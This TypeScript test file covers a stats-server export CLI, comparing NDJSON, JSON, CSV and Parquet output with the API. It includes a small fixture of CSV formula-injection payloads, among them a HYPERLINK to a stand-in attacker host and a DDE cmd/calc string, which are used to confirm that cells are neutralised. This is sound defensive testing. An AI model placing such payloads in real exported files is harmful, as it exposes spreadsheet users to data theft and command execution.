// The export CLI (`stats-server export <id> --format ndjson|json|csv|parquet --out FILE`) run as
// a child process against every store, configured by env as serve is: files compared row by row
// with GET /api/metrics (Parquet read back with hyparquet, an independent reader, with its typed
// payload columns), JSON as the testbed runner's metrics.json, multi row group Parquet, CSV
// formula neutralising (and --csv-raw), fat events, refusals (no database, unknown experiment,
// bad --out: exit 1, no file), `| head` (EPIPE), --help/--version and usage errors. Starts the
// app (inject) and CLI processes (through bin/stats-server.js, as `npx stats-server` runs it).
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } from 'hyparquet';
import { buildApp } from '../../src/app.ts';
import type { Config } from '../../src/config/index.ts';
import type { EventDoc, StoredEvent } from '../../src/events/schema.ts';
import {
  CHUNK_CHARS,
  COLUMNS,
  chunked,
  csvField,
  flatten,
  PAYLOAD_COLUMNS,
} from '../../src/export/columns.ts';
import { exportExperiment } from '../../src/export/export.ts';
import type { EventStore, ReadQuery } from '../../src/store/types.ts';
import { parseCsv } from '../helpers/csv.ts';
import { dashEvent } from '../helpers/events.ts';
import { openStore, storeFixtures } from '../helpers/stores.ts';
import { scaled } from '../helpers/wait.ts';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const EXP = 'exp_export.1';

function cliEnv(config: Readonly<Config>): NodeJS.ProcessEnv {
  const { MONGO_URL: _u, MONGO_HOST: _h, STORAGE: _s, DATA_DIR: _d, ...env } = process.env;
  return config.storage === 'sqlite'
    ? { ...env, STORAGE: 'sqlite', DATA_DIR: config.dataDir, LOG_LEVEL: 'silent' }
    : {
        ...env,
        STORAGE: 'mongodb',
        MONGO_URL: config.mongo.url,
        MONGO_DATABASE: config.mongo.database,
        LOG_LEVEL: 'silent',
      };
}

const BIN = path.join(root, 'bin/stats-server.js');

interface CliResult {
  code: number | null;
  stdout: string;
  stderr: string;
}

/**
 * Runs the CLI as `npx stats-server` does (bin/stats-server.js); resolves with its exit code,
 * stdout and stderr. `stdoutBytes`: close our end of stdout after that many bytes (a `| head`).
 * Bounded to 60 s.
 */
function cli(
  args: string[],
  env: NodeJS.ProcessEnv,
  opts: { cwd?: string; stdoutBytes?: number } = {},
): Promise<CliResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args], {
      cwd: opts.cwd ?? root,
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => {
      stdout += d;
      if (opts.stdoutBytes !== undefined && stdout.length >= opts.stdoutBytes) child.stdout.destroy();
    });
    child.stderr.on('data', (d) => {
      stderr += d;
    });
    const timer = setTimeout(() => child.kill('SIGKILL'), scaled(60_000));
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
  });
}

/** What a spreadsheet-safe CSV holds for a cell (see csvField): text starting a formula gets a '. */
const safe = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

const HOSTILE = {
  video_id: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  session_id: "+cmd|' /C calc'!A0",
  event_id: '@SUM(1+1)',
};

function events(): EventDoc[] {
  const out: EventDoc[] = [];
  for (let i = 0; i < 220; i++) {
    const e = dashEvent(EXP, 1700000000 + i / 10, {
      payload: { quality: i % 4, note: i % 7 === 0 ? 'a "quoted", comma\nline — ü' : `n${i}`, nested: { i } },
    });
    out.push({
      ...e,
      video_id: e.video_id ?? 'unknown',
      ...(i % 3 === 0 ? { session_id: `s${i % 2}` } : {}),
      ...(i % 5 === 0 ? { event_id: `e${i}`, client_version: '1.0' } : {}),
      ...(i === 7 ? HOSTILE : {}),
      ...(i === 8 ? { protocol: '-2+3+cmd', video_id: '\tTAB' } : {}),
      stored_at: new Date(1700000100000 + i),
    });
  }
  // Typed payload columns: reporter fields and CMCD keys, one of them of the wrong type.
  Object.assign(out[10]!.payload, { buffer_level: 12.5, current_bitrate: 2_500_000, playback_rate: 1.5 });
  Object.assign(out[11]!.payload, { bl: 9000, br: 800, mtp: 4000, sta: 'p', live_latency: 'n/a' });
  return out;
}

/** Events of several MB each (the audit's "fat" events). */
function fatEvents(experimentId: string, n: number, bytes: number): EventDoc[] {
  return Array.from({ length: n }, (_, i) => ({
    ...dashEvent(experimentId, 1700000000 + i, { payload: { blob: String(i % 10).repeat(bytes) } }),
    video_id: 'fat',
    stored_at: new Date(1700000100000 + i),
  }));
}

for (const fixture of storeFixtures()) {
  describe(`export CLI on ${fixture.name}`, { skip: fixture.skip }, () => {
    let config: Readonly<Config>;
    let store: EventStore;
    let app: FastifyInstance;
    let apiEvents: StoredEvent[];
    let dir: string;

    before(async () => {
      config = fixture.config();
      store = await openStore(config);
      app = await buildApp(config, { store });
      await store.insertMany(events());
      apiEvents = (await app.inject({ method: 'GET', url: `/api/metrics/${EXP}` })).json().metrics;
      assert.equal(apiEvents.length, 220);
      dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stats-export-'));
    });
    after(async () => {
      await app?.close();
      await store?.close();
      await fixture.cleanup();
      if (dir) fs.rmSync(dir, { recursive: true, force: true });
    });

    test('NDJSON: one line per event, equal to the API', async () => {
      const out = path.join(dir, 'e.ndjson');
      const r = await cli(['export', EXP, '--format', 'ndjson', '--out', out], cliEnv(config));
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /exported 220 events/);
      const lines = fs.readFileSync(out, 'utf8').trimEnd().split('\n');
      assert.deepEqual(
        lines.map((l) => JSON.parse(l)),
        apiEvents,
      );
    });

    test('JSON: one array of the API documents (_id a string), as the runner writes metrics.json', async () => {
      const out = path.join(dir, 'metrics.json');
      const r = await cli(['export', EXP, '--format', 'json', '--out', out], cliEnv(config));
      assert.equal(r.code, 0, r.stderr);
      const docs = JSON.parse(fs.readFileSync(out, 'utf8'));
      assert.deepEqual(docs, apiEvents);
      assert.ok(docs.every((d: StoredEvent) => typeof d._id === 'string'));
    });

    test('CSV: fixed columns, payload and extra as JSON text, formula cells neutralised, equal to the API', async () => {
      const out = path.join(dir, 'e.csv');
      const r = await cli(['export', EXP, '--format', 'csv', '--out', out], cliEnv(config));
      assert.equal(r.code, 0, r.stderr);
      const text = fs.readFileSync(out, 'utf8');
      const rows = parseCsv(text);
      assert.deepEqual(rows[0], [...COLUMNS]);
      const cell = (e: StoredEvent, c: (typeof COLUMNS)[number]) => {
        const v = flatten(e)[c];
        return typeof v === 'string' ? safe(v) : String(v ?? '');
      };
      assert.deepEqual(
        rows.slice(1),
        apiEvents.map((e) => COLUMNS.map((c) => cell(e, c))),
      );
      // No cell a spreadsheet would evaluate; the API serves the same bytes.
      for (const row of rows.slice(1)) for (const v of row) assert.doesNotMatch(v, /^[=+\-@\t\r]/);
      assert.ok(rows.some((row) => row.includes(`'${HOSTILE.video_id}`)));
      const api = await app.inject({ method: 'GET', url: `/api/metrics/${EXP}?format=csv` });
      assert.equal(api.body, text);
    });

    test('CSV --csv-raw (and the API ?csv=raw) write cells as stored', async () => {
      const out = path.join(dir, 'raw.csv');
      const r = await cli(['export', EXP, '--format', 'csv', '--csv-raw', '--out', out], cliEnv(config));
      assert.equal(r.code, 0, r.stderr);
      const text = fs.readFileSync(out, 'utf8');
      assert.deepEqual(
        parseCsv(text).slice(1),
        apiEvents.map((e) => COLUMNS.map((c) => String(flatten(e)[c] ?? ''))),
      );
      const api = await app.inject({ method: 'GET', url: `/api/metrics/${EXP}?format=csv&csv=raw` });
      assert.equal(api.statusCode, 200, api.body);
      assert.equal(api.body, text);
    });

    test('Parquet: read back with hyparquet, rows equal to the API', async () => {
      const out = path.join(dir, 'e.parquet');
      const r = await cli(['export', EXP, '--format', 'parquet', '--out', out], cliEnv(config));
      assert.equal(r.code, 0, r.stderr);
      const rows = await parquetReadObjects({ file: await asyncBufferFromFile(out) });
      assert.equal(rows.length, 220);
      const expected = apiEvents.map((e) => flatten(e));
      rows.forEach((row, i) => {
        const want = expected[i] as ReturnType<typeof flatten>;
        assert.equal((row.stored_at as Date).toISOString(), want.stored_at);
        const base = Object.fromEntries(Object.entries(row).filter(([k]) => !k.startsWith('payload.')));
        assert.deepEqual({ ...base, stored_at: want.stored_at }, want);
        assert.deepEqual(JSON.parse(String(row.payload)), apiEvents[i]?.payload);
        assert.deepEqual(
          Object.keys(row).filter((k) => k.startsWith('payload.')),
          PAYLOAD_COLUMNS.map((c) => `payload.${c.key}`),
        );
      });
      // Typed copies of the common payload fields (null where absent or not a number).
      const withBuffer = rows.find((r) => r['payload.buffer_level'] !== null);
      assert.equal(withBuffer?.['payload.buffer_level'], 12.5);
      assert.equal(withBuffer?.['payload.current_bitrate'], 2_500_000);
      assert.equal(withBuffer?.['payload.playback_rate'], 1.5);
      const cmcd = rows.find((r) => r['payload.bl'] !== null);
      assert.deepEqual(
        [cmcd?.['payload.bl'], cmcd?.['payload.br'], cmcd?.['payload.mtp'], cmcd?.['payload.sta']],
        [9000, 800, 4000, 'p'],
      );
      assert.equal(cmcd?.['payload.live_latency'], null, 'a string is no number');
      const meta = await parquetMetadataAsync(await asyncBufferFromFile(out));
      const types = Object.fromEntries(meta.schema.slice(1).map((c) => [c.name, c.type]));
      assert.equal(types['payload.buffer_level'], 'DOUBLE');
      assert.equal(types['payload.sta'], 'BYTE_ARRAY');
    });

    test('Parquet is written in row groups (bounded memory)', async () => {
      const out = path.join(dir, 'groups.parquet');
      const n = await exportExperiment(store, {
        experimentId: EXP,
        format: 'parquet',
        out,
        rowGroupSize: 50,
      });
      assert.equal(n, 220);
      const file = await asyncBufferFromFile(out);
      const meta = await parquetMetadataAsync(file);
      assert.equal(meta.row_groups.length, 5);
      assert.equal(Number(meta.num_rows), 220);
      const rows = await parquetReadObjects({ file, columns: ['_id'] });
      assert.deepEqual(
        rows.map((r) => r._id),
        apiEvents.map((e) => e._id),
      );
    });

    test('an unknown experiment: exit 1 naming the store and the experiments it has, no file', async () => {
      const csv = path.join(dir, 'empty.csv');
      const r = await cli(['export', 'nothing_here', '--format', 'csv', '--out', csv], cliEnv(config));
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stderr, /export failed: experiment "nothing_here" has no events in /);
      assert.match(r.stderr, config.storage === 'sqlite' ? /stats\.db/ : /MongoDB /);
      assert.match(r.stderr, new RegExp(EXP.replace('.', '\\.')));
      assert.ok(!fs.existsSync(csv));
      // The library call still writes valid empty files.
      const pq = path.join(dir, 'empty.parquet');
      assert.equal(
        await exportExperiment(store, { experimentId: 'nothing_here', format: 'parquet', out: pq }),
        0,
      );
      assert.equal((await parquetReadObjects({ file: await asyncBufferFromFile(pq) })).length, 0);

      assert.deepEqual(
        fs.readdirSync(dir).filter((f) => f.includes('.partial-')),
        [],
      );
    });

    test('a store failing mid-export leaves neither the file nor a partial file', async () => {
      // The real store, with its read cut after the first batch (a connection lost mid-read).
      const failing = {
        readMark: (id: string) => store.readMark(id),
        async *readEvents(q: ReadQuery) {
          for await (const batch of store.readEvents(q)) {
            yield batch.slice(0, 10);
            throw new Error('connection lost');
          }
        },
        async *readEventsJson(q: ReadQuery) {
          for await (const batch of store.readEventsJson(q)) {
            yield batch.slice(0, 10);
            throw new Error('connection lost');
          }
        },
      } as unknown as EventStore;
      for (const format of ['csv', 'ndjson', 'json', 'parquet'] as const) {
        const out = path.join(dir, `cut.${format}`);
        await assert.rejects(
          exportExperiment(failing, { experimentId: EXP, format, out }),
          /connection lost/,
        );
        assert.ok(!fs.existsSync(out), format);
        assert.deepEqual(
          fs.readdirSync(dir).filter((f) => f.includes('.partial-')),
          [],
          format,
        );
      }
    });

    test('a bad --out directory: exit 1 naming the file, nothing left behind', async () => {
      const out = path.join(dir, 'missing-dir', 'x.csv');
      const r = await cli(['export', EXP, '--format', 'csv', '--out', out], cliEnv(config));
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stderr, /export failed: cannot write .*x\.csv: directory .*missing-dir does not exist/);
      assert.doesNotMatch(r.stderr, /partial|failed to start/);
      assert.ok(!fs.existsSync(path.dirname(out)));
    });

    test('`--out - | head` ends quietly with exit 0', async () => {
      await store.insertMany(
        Array.from({ length: 4000 }, (_, i) => ({
          ...dashEvent('pipe_exp', 1700000000 + i, { payload: { pad: 'x'.repeat(200) } }),
          video_id: 'v',
          stored_at: new Date(),
        })),
      );
      const r = await cli(['export', 'pipe_exp', '--format', 'ndjson', '--out', '-'], cliEnv(config), {
        stdoutBytes: 1000,
      });
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stderr, /EPIPE|failed|Error/);
      assert.ok(r.stdout.startsWith('{'));
    });

    test('fat events (several MB each) export in bounded chunks', async () => {
      const MB = 3 * 1024 * 1024;
      await store.insertMany(fatEvents('fat_exp', 4, MB));
      const out = path.join(dir, 'fat.ndjson');
      const r = await cli(['export', 'fat_exp', '--format', 'ndjson', '--out', out], cliEnv(config));
      assert.equal(r.code, 0, r.stderr);
      const lines = fs.readFileSync(out, 'utf8').trimEnd().split('\n');
      assert.equal(lines.length, 4);
      assert.deepEqual(
        lines.map((l) => (JSON.parse(l).payload.blob as string).length),
        [MB, MB, MB, MB],
      );
    });
  });
}

test('chunked() joins lines into chunks of at most CHUNK_CHARS unless one line is larger', () => {
  const lines = [
    'a'.repeat(CHUNK_CHARS / 2),
    'b'.repeat(CHUNK_CHARS / 2),
    'c',
    'd'.repeat(CHUNK_CHARS * 2),
    'e',
  ];
  const chunks = [...chunked(lines, (l) => l)];
  assert.equal(chunks.join(''), lines.join(''));
  assert.deepEqual(
    chunks.map((c) => c.length),
    [CHUNK_CHARS, 1, CHUNK_CHARS * 2, 1],
  );
});

test('csvField: text that starts a formula gets a leading quote; numbers never change', () => {
  for (const v of ['=1+1', '+1', '-1', '@A1', '\tx', '\rx'])
    assert.equal(csvField(v).replace(/^"|"$/g, '')[0], "'");
  assert.equal(csvField(-1.5), '-1.5');
  assert.equal(csvField('plain'), 'plain');
  assert.equal(csvField('=x', { raw: true }), '=x');
  assert.equal(csvField('-a,b'), `"'-a,b"`);
});

describe('export refuses a data directory with no database', () => {
  let dir: string;
  before(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stats-export-nodb-'));
  });
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  test('mistyped DATA_DIR: exit 1 naming the path, no database created', async () => {
    const typo = path.join(dir, 'typo-dir');
    const out = path.join(dir, 'x.csv');
    const env = { ...cliEnvBase(), STORAGE: 'sqlite', DATA_DIR: typo };
    const r = await cli(['export', EXP, '--format', 'csv', '--out', out], env);
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /export failed: no database at .*typo-dir.stats\.db/);
    assert.match(r.stderr, /DATA_DIR/);
    assert.ok(!fs.existsSync(typo));
    assert.ok(!fs.existsSync(out));
  });

  test('default DATA_DIR from another directory: never creates ./data/stats.db', async () => {
    const env = { ...cliEnvBase(), STORAGE: 'sqlite' };
    const r = await cli(['export', EXP, '--format', 'csv', '--out', 'x.csv'], env, { cwd: dir });
    assert.equal(r.code, 1, r.stderr);
    assert.match(r.stderr, /no database at .*data.stats\.db/);
    assert.deepEqual(fs.readdirSync(dir), []);
  });
});

test('--help and --version for each command', async () => {
  const env = cliEnvBase();
  for (const args of [['--help'], ['export', '--help'], ['serve', '--help'], ['export', '-h']]) {
    const r = await cli(args, env);
    assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
    assert.match(r.stdout, /^Usage: stats-server/, args.join(' '));
  }
  for (const args of [['--version'], ['export', '--version'], ['serve', '-v']]) {
    const r = await cli(args, env);
    assert.equal(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
    assert.match(r.stdout, /^stats-server \d+\.\d+\.\d+\n$/, args.join(' '));
  }
});

function cliEnvBase(): NodeJS.ProcessEnv {
  const { MONGO_URL: _u, MONGO_HOST: _h, STORAGE: _s, DATA_DIR: _d, ...env } = process.env;
  return { ...env, LOG_LEVEL: 'silent' };
}

test('bad export usage exits 2 with the usage text and writes nothing', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'stats-export-usage-'));
  try {
    const bad = path.join(dir, 'bad.out');
    const env = { ...cliEnvBase(), STORAGE: 'sqlite', DATA_DIR: dir };
    const results = await Promise.all(
      [
        ['export', EXP, '--format', 'xlsx', '--out', bad],
        ['export', EXP, '--format', 'csv'],
        ['export', '--format', 'csv', '--out', bad],
        ['export', 'bad$id', '--format', 'csv', '--out', bad],
        ['export', EXP, '--format', 'parquet', '--out', '-'],
      ].map(async (args) => ({ args, res: await cli(args, env) })),
    );
    for (const { args, res } of results) {
      assert.equal(res.code, 2, `${args.join(' ')}: ${res.stderr}`);
      assert.match(res.stderr, /Usage: stats-server export/);
    }
    assert.ok(!fs.existsSync(bad));
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});
